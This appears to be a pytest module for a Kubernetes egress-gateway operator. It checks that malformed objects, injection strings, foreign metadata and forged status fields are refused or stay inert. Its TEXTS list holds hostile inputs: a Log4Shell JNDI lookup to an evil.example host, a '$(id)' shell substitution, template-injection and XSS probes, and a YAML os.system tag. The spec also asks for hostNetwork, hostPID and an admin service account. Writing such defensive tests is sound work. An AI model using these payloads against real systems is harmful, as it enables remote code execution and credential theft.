"""
Objects made to do harm, on a real API server: refused in words by it or by the operator, or taken as text.

What is rendered of hostile texts is looked at closely in `tests/unit/render/test_hostile.py`; here it is stored.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, Final

import pytest
import yaml

from apicases.corpus import Document, corpus
from controlplane.gateway_world import FLAGS, GatewayWorld, conditions, open_world
from egressgateway.refs import CHILD_RESOURCES, EGRESS_GATEWAY
from harness.controlplane import ControlPlane
from harness.gateways import Gateways, destination, egress_gateway, in_parallel, items
from harness.istioctl import Istioctl
from harness.kinds import read_definitions
from harness.operator import OperatorProcess
from harness.recorder import ConditionsRecorder
from harness.release import operator_kubeconfig
from harness.rest import ApiError, Object
from harness.session import Run
from harness.wait import eventually

TEXTS: Final = (
    "{{ cycler.__init__.__globals__ }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "$(id)",
    "x: y # no comment",
    "- a'\"`",
    "%REQ(authorization)%",
    "\\u0000 <script>alert(1)</script>",
    "!!python/object:os.system",
    "yes",
    "1e3",
    "*anchor",
)
"""Texts that mean something to a template, to YAML, to Envoy, to a shell or to a page."""

FOREIGN_METADATA: Final = {
    "labels": {
        "app.kubernetes.io/instance": "argo",
        "app.kubernetes.io/managed-by": "Helm",
        "kustomize.toolkit.fluxcd.io/name": "flux",
        "istio.io/rev": "stolen",
        "egressgateway.dev/gateway": "somebody-else",
    },
    "annotations": {
        "argocd.argoproj.io/tracking-id": "app:group/kind:ns/name",
        "meta.helm.sh/release-name": "release",
        "kubectl.kubernetes.io/restartedAt": "now",
        "sidecar.istio.io/proxyImage": "evil",
        "note": TEXTS[0],
    },
}


@pytest.fixture(scope="module")
def plane(run: Run) -> Iterator[ControlPlane]:
    """As elsewhere, but nobody judges statuses: some are forged here."""
    with run.private(run.options()) as plane:
        yield plane


@pytest.fixture(scope="module")
def world(plane: ControlPlane, istioctl: Istioctl, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayWorld]:
    yield from open_world(plane, istioctl, tmp_path_factory.mktemp("operator"))


@pytest.fixture(scope="module")
def loose(run: Run, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ControlPlane]:
    """A control plane whose CRDs let every `spec` pass, as an older or a damaged CRD might."""
    options = run.options()
    file = tmp_path_factory.mktemp("crds") / "loose.yaml"
    own = [each for each in options.definitions if each.name.startswith("egressgateway.dev_")]
    file.write_text(yaml.safe_dump_all([loosened(each) for each in read_definitions(own)]))
    others = tuple(each for each in options.definitions if each not in own)
    with run.private(replace(options, definitions=(file, *others))) as plane, ConditionsRecorder(plane.kubeconfig):
        yield plane


def loosened(definition: Object) -> Object:
    definition = copy.deepcopy(definition)
    schema = definition["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    schema.pop("x-kubernetes-validations", None)
    schema["properties"]["spec"] = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
    return definition


class TestWithoutSchema:
    """The operator alone, with nobody in front of it."""

    def test_every_bad_object_is_refused_in_words_and_disturbs_nobody(
        self, loose: ControlPlane, tmp_path: Path
    ) -> None:
        """Each gets Accepted=False with the field; a good object beside them works; nothing of theirs is rendered."""
        gateways, log = Gateways(loose, "default"), tmp_path / "operator.log"
        stored = [each for each in map(stored_as, numbered(corpus("invalid"))) if each is not None]
        assert len(stored) > 100
        with OperatorProcess(operator_kubeconfig(loose), log, *FLAGS) as operator:
            in_parallel(lambda each: loose.rest.create(EGRESS_GATEWAY.path("default"), each), stored)
            gateways.apply("good")
            gateways.wait_ready("good", timeout=120)
            names = [each["metadata"]["name"] for each in stored]
            eventually(lambda: not transient_errors(loose), timeout=120, what="an answer to every object")
            answers = {name: conditions(loose.rest.get(gateways.path(name))["status"])["Accepted"] for name in names}
            assert {name: answer for name, answer in answers.items() if answer != ("False", "Invalid")} == {}
            messages = [gateways.condition(name, "Accepted")["message"] for name in names]
            assert [message for message in messages if not message.startswith("spec")] == []
            assert owners_of_children(loose) == {"good"}
            assert operator.running
        check_log(log)


def stored_as(document: tuple[int, Document]) -> Object | None:
    """
    An EgressGateway of the corpus under a name and with hosts of its own: hundreds that want one are another story.

    None for what only its name or its class makes bad.
    """
    number, found = document
    manifest = json.loads(json.dumps(found.manifest).replace("a.example", f"a{number}.example"))
    if manifest["kind"] != EGRESS_GATEWAY.kind or not isinstance(manifest.get("spec"), dict):
        return None
    return None if found.label.startswith("names") else {**manifest, "metadata": {"name": f"bad-{number}"}}


def numbered(documents: list[Document]) -> Iterator[tuple[int, Document]]:
    return iter(enumerate(documents))


def transient_errors(plane: ControlPlane) -> list[str]:
    return [
        each["metadata"]["name"]
        for each in plane.rest.items(EGRESS_GATEWAY.path(None))
        if each["status"]["observedGeneration"] != each["metadata"]["generation"]
    ]


def owners_of_children(plane: ControlPlane) -> set[str]:
    label = "egressgateway.dev/gateway"
    return {
        each["metadata"]["labels"][label]
        for resource in CHILD_RESOURCES
        for each in items(plane, resource, None, label)
    }


def check_log(log: Path) -> None:
    """Every line is one record of ours, and none of it is an error: no text of a user made a line of its own."""
    records = [json.loads(line) for line in log.read_text().split("\n") if line]
    assert records
    assert [each for each in records if each["level"] == "error"] == []


class TestWithoutFieldValidation:
    """`fieldValidation=Ignore`: the API server drops what it does not know, and stores the rest."""

    def test_what_is_stored_is_answered(self, world: GatewayWorld) -> None:
        """Whatever the server lets pass is Accepted or refused by the operator; the rest the server refuses itself."""
        gateways = world.of("ignored")
        documents = [each for each in numbered(corpus("invalid")) if stored_as(each) is not None]
        passed = [manifest["metadata"]["name"] for each in documents if (manifest := self.created(gateways, each))]
        # Unknown fields are all that the server then lets pass.
        assert 0 < len(passed) < len(documents) / 10
        eventually(lambda: not transient_errors(world.plane), what="an answer to every object")
        reasons = {gateways.condition(name, "Accepted")["reason"] for name in passed}
        assert reasons <= {"Accepted", "ConsumerNotAllowed"}
        for name in passed:
            gateways.delete(name)
        gateways.wait_gone(*passed)

    @staticmethod
    def created(gateways: Gateways, document: tuple[int, Document]) -> Object | None:
        manifest = stored_as(document)
        assert manifest is not None
        try:
            return gateways.cluster.rest.create(f"{gateways.path()}?fieldValidation=Ignore", manifest)
        except ApiError as error:
            if error.code not in (400, 422) or not error.message:
                raise
            return None

    def test_unknown_fields_reach_no_child(self, world: GatewayWorld) -> None:
        """What Kubernetes or Istio would know and the API does not is nowhere: not in the spec, not in a child."""
        gateways = world.of("unknown")
        gateway = egress_gateway("unknown", "sly", destination("api"))
        gateway["spec"] |= {"hostNetwork": True, "exportTo": ["*"], "podTemplate": {"spec": {"hostPID": True}}}
        gateway["spec"]["gateway"] = {"replicas": 1, "hostNetwork": True, "serviceAccountName": "admin"}
        gateways.cluster.rest.create(f"{gateways.path()}?fieldValidation=Ignore", gateway)
        gateways.wait_ready("sly")
        pod = gateways.children("sly")["Deployment", "sly-egress"]["spec"]["template"]["spec"]
        assert pod["serviceAccountName"] == "sly-egress"
        assert not pod.get("hostNetwork")
        assert not pod.get("hostPID")
        gateways.delete("sly")
        gateways.wait_gone("sly")


class TestTexts:
    """Values that the API lets pass, because they are only texts."""

    def test_texts_stay_texts(self, world: GatewayWorld) -> None:
        """In header values, annotations and selectors: Istio and the API server have what the author wrote."""
        gateways = world.of("texts")
        headers = {f"x-{number}": text for number, text in enumerate(TEXTS)}
        annotations = {f"note-{number}": text for number, text in enumerate(TEXTS)}
        api = destination("api", ports=[{"port": 80, "protocol": "HTTP"}])
        api["requestHeaders"] = {"set": [{"name": name, "value": text} for name, text in headers.items()]}
        paths = ["/a.b", "/%7B%7B/*", "/a$b"]
        gateways.apply(
            "texts",
            api,
            gateway={"podAnnotations": annotations, "nodeSelector": {"yes": "on", "n": "1e3"}, "replicas": 1},
            access={"from": [{"namespaces": ["texts"], "paths": paths}]},
        )
        gateways.wait_ready("texts")
        children = gateways.children("texts")
        template = children["Deployment", "texts-egress"]["spec"]["template"]
        assert {name: template["metadata"]["annotations"][name] for name in annotations} == annotations
        assert template["spec"]["nodeSelector"] == {"yes": "on", "n": "1e3"}
        sets = [
            route["headers"]["request"]["set"]
            for (kind, _), each in children.items()
            if kind == "VirtualService"
            for route in each["spec"].get("http", ())
            if "set" in (route.get("headers") or {}).get("request", {})
        ]
        # Envoy takes `%` for a variable of its own unless it is doubled.
        assert {name: text.replace("%", "%%") for name, text in headers.items()}.items() <= sets[0].items()
        assert world.invalid(children.values()) == ""
        assert world.judged() == []
        gateways.delete("texts")
        gateways.wait_gone("texts")

    def test_metadata_of_the_object_reaches_no_child(self, world: GatewayWorld) -> None:
        """Argo CD, Flux, Helm and Istio read such labels and annotations of children, and would act on them."""
        gateways = world.of("metadata")
        gateway = egress_gateway("metadata", "marked", destination("api"))
        gateway["metadata"] |= FOREIGN_METADATA
        gateways.cluster.rest.create(gateways.path(), gateway)
        gateways.wait_ready("marked")
        for child in gateways.children("marked").values():
            metadata = child["metadata"]
            assert metadata["labels"]["app.kubernetes.io/managed-by"] == "egressgateway-operator"
            assert metadata["labels"]["egressgateway.dev/gateway"] == "marked"
            assert not {"app.kubernetes.io/instance", "istio.io/rev"} & metadata["labels"].keys()
            assert not FOREIGN_METADATA["annotations"].keys() & metadata["annotations"].keys()
        gateways.delete("marked")
        gateways.wait_gone("marked")

    def test_longest_names_are_served(self, world: GatewayWorld) -> None:
        """Fifty and forty characters, and a host of 253: no child's name, label or port is too long for anybody."""
        gateways = world.of("n" * 63)
        name, part = f"a{'b' * 48}c", "d" * 40
        host = ".".join(["h" * 63, "i" * 63, "j" * 63, "k" * 53, "example"])
        gateways.apply(name, destination(part, host), destination("z", "*.example.net") | {"wildcard": DYNAMIC})
        gateways.wait_ready(name)
        assert world.invalid(gateways.children(name).values()) == ""
        assert world.judged() == []
        gateways.delete(name)
        gateways.wait_gone(name)


DYNAMIC: Final = {"strategy": "DynamicResolution"}


class TestForgedStatus:
    """Who may write `status` may lie in it; the operator must neither break nor act on nonsense."""

    @pytest.mark.parametrize(
        "forged",
        [
            {"claims": [{"host": "victim.example.com", "claimedAt": "1970-01-01T00:00:00Z"}]},
            {"consumers": [{"namespace": "*", "since": "1970-01-01T00:00:00Z"}]},
            {"remoteChildren": [{"apiVersion": "v1", "kind": "Secret", "namespace": "kube-system", "name": "x"}]},
            {"observedGeneration": 2**40},
            {"conditions": [], "destinations": [], "gateway": None},
        ],
        ids=["claim", "consumer", "remote-child", "generation", "empty"],
    )
    def test_lies_are_corrected(
        self, world: GatewayWorld, forged: dict[str, Any], request: pytest.FixtureRequest
    ) -> None:
        """A claim of a name that the spec does not ask for, an endless generation, children that are nobody's: gone."""
        name = request.node.callspec.id
        gateways = world.of("forged")
        gateways.apply(name)
        gateways.wait_ready(name)
        before = told(gateways.get(name)["status"])
        gateways.cluster.rest.merge(f"{gateways.path(name)}/status", {"status": forged})

        def corrected() -> bool:
            return told(gateways.get(name)["status"]) == before

        eventually(corrected, what="the status as it was")
        gateways.wait_ready(name)
        gateways.delete(name)
        gateways.wait_gone(name)


def told(status: Object) -> Object:
    """A status without times, and without what an object need not have."""
    lists = {"claims": "host", "consumers": "namespace", "remoteChildren": "name"}
    return {
        **{key: status.get(key) for key in ("observedGeneration", "gateway", "summary", "provider")},
        **{key: [each[name] for each in status.get(key) or ()] for key, name in lists.items()},
        "conditions": conditions(status),
        "destinations": [conditions(each) for each in status.get("destinations") or ()],
    }


def test_operator_logged_no_error(world: GatewayWorld) -> None:
    """Nothing above broke anything."""
    assert world.operator.running
    check_log(world.operator.log)
